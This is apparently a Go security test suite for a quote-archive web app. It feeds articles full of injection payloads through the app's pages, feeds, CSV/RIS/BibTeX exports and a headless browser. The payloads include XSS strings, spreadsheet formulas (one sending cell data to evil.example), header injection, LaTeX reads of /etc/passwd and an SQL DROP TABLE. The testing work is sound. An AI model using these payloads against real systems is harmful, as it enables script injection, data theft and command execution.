package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"onrecord/index"
	"onrecord/web/webtest"
)

// hostile are strings that do harm somewhere when they are taken for more than
// text: as HTML, JavaScript, an address, XML, JSON, a formula, a header, RIS,
// BibTeX, a template.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(2)>`,
	`'"--></title></style></textarea></noscript><svg onload=alert(3)>`,
	`</script><script>alert(4)</script>`,
	`<!--<script>alert(5)`,
	`]]><script xmlns="http://www.w3.org/1999/xhtml">alert(6)</script>`,
	`<a href="javascript:alert(7)">x</a>`,
	`&lt;script&gt;alert(8)&lt;/script&gt;`,
	`&#x3C;script&#x3E;alert(9)&#60;/script&#62;`,
	`" onmouseover="alert(10)" autofocus onfocus="alert(11)`,
	`{{.Base}}{{template "layout" .}}${alert(12)}`,
	`\u003cscript\u003ealert(13)\u003c/script\u003e`,
	"a\u2028alert(14)\u2029b",
	"\u202e\u2066<script>alert(15)</script>",
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1-2;=cmd|' /C calc'!A0`,
	`-2+3","=1+1"`,
	"x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(16)</script>",
	"x\nER  - \nTY  - JOUR\nTI  - evil",
	`x},url={javascript:alert(17)}} @misc{evil, title={`,
	`\input{/etc/passwd}\write18{id}%`,
	`'; DROP TABLE quotes; --`,
	`<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<iframe srcdoc="<script>parent.alert(18)</script>">`,
	`<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>`,
	`<form action="https://evil.example/"><button formaction="javascript:alert(19)">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>`,
}

var hostileURLs = []string{
	`javascript:alert(30)`, `JaVaScRiPt:alert(31)//https://a.example/`, " javascript:alert(32)", "java\tscript:alert(33)", `data:text/html,<script>alert(34)</script>`,
	`vbscript:x`, `https://a.example/"onmouseover="alert(35)`, `https://a.example/'><script>alert(36)</script>`, `//evil.example/x`, `https://a.example/#:~:text=x"><script>alert(37)</script>`,
	`http:javascript:alert(38)`, `https://user:pass@a.example/`, `file:///etc/passwd`, `https://a.example\@evil.example/`, "https://a.example/\r\nX-Evil: 1", `blob:https://a.example/x`,
}

// writeHostile writes articles in which every name, title and word is hostile.
func writeHostile(t *testing.T, dir string) {
	t.Helper()
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	for i, s := range hostile {
		record := map[string]any{
			"id": fmt.Sprintf("h%d", i), "title": s, "date": "2024-05-0" + fmt.Sprint(i%9+1), "place": s, "source": s, "byline": s, "lang": "en",
			"url": hostileURLs[i%len(hostileURLs)],
			"turns": []map[string]string{
				{"speaker": "Interviewer", "text": "What do you say to " + s + " today?"},
				{"speaker": s, "text": s + " The brigades stay where they are. " + s},
				{"speaker": "Foreign Minister " + s, "text": "We have told Sweden and NATO: " + s},
			},
		}
		if err := enc.Encode(record); err != nil {
			t.Fatal(err)
		}
		text := fmt.Sprintf("%s\n\nBy %s\n\nSTOCKHOLM, 3 May 2024 – The meeting went on.\n\n“The brigades %s stay,” said Karin %s Ekvall, the Swedish foreign minister.\n\nQ: What of %s?\n\nA: Nothing of %s at all.\n", s, s, s, s, s, s)
		page := fmt.Sprintf("<html><head><title>%s</title><link rel=canonical href=\"%s\"></head><body><article><h1>x%s</h1><p>“The brigades %s stay where they are today,” said Swedish foreign minister Karin Ekvall.</p><p>%s</p></article></body></html>", s, hostileURLs[i%len(hostileURLs)], s, s, s)
		for name, data := range map[string]string{"a%d.txt": text, "p%d.html": page} {
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf(name, i)), []byte(data), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "records.jsonl"), b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// What articles say executes nothing anywhere: on no page, in no frame, feed,
// export or answer of the API, whatever stands in titles, quotes, names and
// addresses, and in the query.
func TestHostileArticles(t *testing.T) {
	folder := t.TempDir()
	writeHostile(t, folder)
	// The rules that find speakers let no such name through. Here some do.
	var n atomic.Int64 // articles are read side by side
	next := func() string { return hostile[int(n.Add(1))%len(hostile)] }
	s, err := openStore(t.TempDir(), folder, func(iv *index.Interview) {
		for i := range iv.Quotes {
			q := &iv.Quotes[i]
			q.Speaker.Name, q.Speaker.Printed, q.Speaker.Role, q.Speaker.Country, q.Speaker.Organization = next(), next(), next(), next(), next()
			q.Speaker.Kind = index.Person
			q.Alliances = []string{next(), next()}
			for j := range q.Names {
				q.Names[j].Name = next()
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	s.Base, s.EmbedOrigins = "/apps/onrecord/", []string{"https://portal.example"}
	server := httptest.NewUnstartedServer(nil)
	s.Origin = "http://" + server.Listener.Addr().String()
	server.Config.Handler = s.Handler()
	server.Start()
	t.Cleanup(server.Close)
	site := server.URL + s.Base

	records := hostileJSON(t, site)
	t.Run("pages", func(t *testing.T) {
		starts := []webtest.Start{{Path: "", Status: 200}, {Path: "search", Status: 200}, {Path: "search?group=true", Status: 200}, {Path: "who", Status: 200}, {Path: "opensearch.xml", Status: 200}, {Path: "api/v1/search?facet=speaker", Status: 200}}
		for _, q := range hostile {
			q = url.QueryEscape(`"` + q + `"`)
			for _, p := range []string{"embed/how?q=" + q, "search.atom?q=" + q} {
				if status := statusOf(t, site+p); status == 200 {
					starts = append(starts, webtest.Start{Path: p, Status: status})
				}
			}
		}
		kinds := webtest.Crawl(t, webtest.Site{Address: site, Each: 2}, starts...)
		t.Logf("%v", kinds)
		if kinds["interview"] < 4 || kinds["speaker"] < 10 || kinds["search.atom"] < 4 || kinds["export"] < 4 {
			t.Errorf("too few pages: %v", kinds)
		}
	})
	t.Run("CSV", func(t *testing.T) { hostileCSV(t, site, len(records)) })
	t.Run("RIS", func(t *testing.T) {
		body, _ := download(t, site+"export?format=ris")
		for tag, want := range map[string]int{"TY  - ": len(records), "ER  - ": len(records)} {
			if got := len(regexp.MustCompile("(?m)^"+tag).FindAllString(body, -1)); got != want {
				t.Errorf("%d lines begin with %q, want %d", got, tag, want)
			}
		}
	})
	t.Run("BibTeX", func(t *testing.T) {
		body, _ := download(t, site+"export?format=bibtex")
		if got := len(regexp.MustCompile(`(?m)^@`).FindAllString(body, -1)); got != len(records) {
			t.Errorf("%d entries, want %d", got, len(records))
		}
		if m := regexp.MustCompile(`(^|[^\\])(\\input|\\write18|@misc\{evil)`).FindString(body); m != "" {
			t.Errorf("holds %q", m)
		}
	})
	t.Run("CSL", func(t *testing.T) {
		body, _ := download(t, site+"export?format=csl")
		var items []map[string]any
		if err := json.Unmarshal([]byte(body), &items); err != nil || len(items) != len(records) {
			t.Errorf("%d items, %v", len(items), err)
		}
		for _, item := range items {
			if u, _ := item["URL"].(string); u != "" && !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
				t.Errorf("has the address %q", u)
			}
		}
	})
	t.Run("Atom", func(t *testing.T) { hostileAtom(t, site) })
	t.Run("browser", func(t *testing.T) { hostileBrowser(t, site, records) })
}

// download returns an answer that may not be taken for another type than it is.
func download(t *testing.T, address string) (string, http.Header) {
	t.Helper()
	res, err := http.Get(address)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != 200 || res.Header.Get("X-Content-Type-Options") != "nosniff" || strings.Contains(res.Header.Get("Content-Type"), "html") || res.Header.Get("Set-Cookie") != "" {
		t.Errorf("%s: %d %v", address, res.StatusCode, res.Header)
	}
	return string(b), res.Header
}

func statusOf(t *testing.T, address string) int {
	t.Helper()
	res, err := http.Get(address)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != 200 && res.StatusCode != 400 {
		t.Errorf("%s: %d", address, res.StatusCode)
	}
	return res.StatusCode
}

// hostileJSON returns the records of the JSON Lines export, in which the hostile
// strings must have arrived: what was lost on the way in tests nothing.
func hostileJSON(t *testing.T, site string) []map[string]any {
	t.Helper()
	body, _ := download(t, site+"export?format=jsonl")
	var records []map[string]any
	hits := map[string]int{}
	for line := range strings.Lines(body) {
		var r map[string]any
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		records = append(records, r)
		for _, field := range []string{"title", "quote", "speaker", "role", "country", "outlet", "place", "byline"} {
			if s, _ := r[field].(string); strings.Contains(s, "alert(") || strings.ContainsAny(s, "=@<{") {
				hits[field]++
			}
		}
	}
	t.Logf("%d records; hostile in %v", len(records), hits)
	for field, least := range map[string]int{"title": 40, "quote": 40, "speaker": 40, "role": 40, "country": 40, "outlet": 20, "place": 20, "byline": 10} {
		if hits[field] < least {
			t.Errorf("only %d of %s are hostile", hits[field], field)
		}
	}
	return records
}

func hostileCSV(t *testing.T, site string, want int) {
	body, h := download(t, site+"export?format=csv")
	if d := h.Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") {
		t.Errorf("Content-Disposition %q", d)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != want+1 {
		t.Errorf("%d rows, want %d", len(rows), want+1)
	}
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", []rune(strings.TrimLeft(cell, " \u00a0\u200b\ufeff\u202e\u2066"))[0]) {
				t.Errorf("%s holds a formula: %q", rows[0][i], cell)
			}
		}
	}
}

func hostileAtom(t *testing.T, site string) {
	body, _ := download(t, site+"search.atom")
	var feed struct {
		Entries []struct {
			Title struct {
				Type string `xml:"type,attr"`
			} `xml:"title"`
			Content struct {
				Type string `xml:"type,attr"`
			} `xml:"content"`
			Links []struct {
				Href string `xml:"href,attr"`
			} `xml:"link"`
		} `xml:"entry"`
	}
	if err := xml.Unmarshal([]byte(body), &feed); err != nil {
		t.Fatal(err)
	}
	for _, e := range feed.Entries {
		// A reader takes text for text; html it would show.
		if e.Title.Type != "text" || e.Content.Type != "text" {
			t.Errorf("an entry has a title of the type %q, content of the type %q", e.Title.Type, e.Content.Type)
		}
		for _, l := range e.Links {
			if !strings.HasPrefix(l.Href, "https://") && !strings.HasPrefix(l.Href, "http://") {
				t.Errorf("an entry leads to %q", l.Href)
			}
		}
	}
	for _, element := range regexp.MustCompile(`<([A-Za-z:]+)`).FindAllStringSubmatch(body, -1) {
		if slices.Contains([]string{"script", "svg", "img", "iframe", "a", "base", "style", "form", "meta"}, strings.ToLower(element[1])) {
			t.Errorf("the feed has a <%s>", element[1])
		}
	}
}

// hostileBrowser opens the pages with JavaScript switched on: no dialog, no
// message, no request to others.
func hostileBrowser(t *testing.T, site string, records []map[string]any) {
	ctx := browser(t)
	scripts(t, ctx)
	bad, asked := complaints(t, ctx), watch(t, ctx)
	var mu sync.Mutex
	var dialogs []string
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*cdppage.EventJavascriptDialogOpening); ok {
			mu.Lock()
			dialogs = append(dialogs, e.URL+": "+e.Message)
			mu.Unlock()
		}
	}); err != nil {
		t.Fatal(err)
	}
	addresses := []string{site, site + "search?group=true", site + "search?q=brigades", site + "embed?q=brigades", site + "who", site + "values/speaker", site + "values/outlet", site + "values/location"}
	for _, q := range hostile[:14] {
		addresses = append(addresses, site+"search?q="+url.QueryEscape(q), site+"embed?q="+url.QueryEscape(`"`+q+`"`), site+"embed/how?q="+url.QueryEscape(`"`+q+`"`), site+"speaker/"+url.PathEscape(q))
	}
	seen := map[string]bool{}
	for _, r := range records {
		id, _ := r["interview"].(string)
		if !seen[id] {
			seen[id] = true
			link, _ := r["link"].(string)
			addresses = append(addresses, link)
		}
	}
	for _, a := range addresses {
		if err := chromedp.Do(ctx, chromedp.Navigate(a)); err != nil {
			mu.Lock()
			t.Fatalf("%s: %v; dialogs: %q", a, err, dialogs)
		}
		if n := evaluate[int](t, ctx, `document.querySelectorAll('[onerror],[onload],[onmouseover],[onfocus],img,iframe,base,style,main script:not([type])').length`); n > 0 {
			t.Errorf("%s has %d elements of others", a, n)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	t.Logf("%d pages", len(addresses))
	for _, d := range dialogs {
		t.Errorf("a dialog opens: %s", d)
	}
	for _, c := range bad() {
		if !strings.Contains(c, "status of 4") {
			t.Errorf("the browser complains: %s", c)
		}
	}
	if out := asked.outside(site); len(out) > 0 {
		t.Errorf("others are asked: %q", out)
	}
}
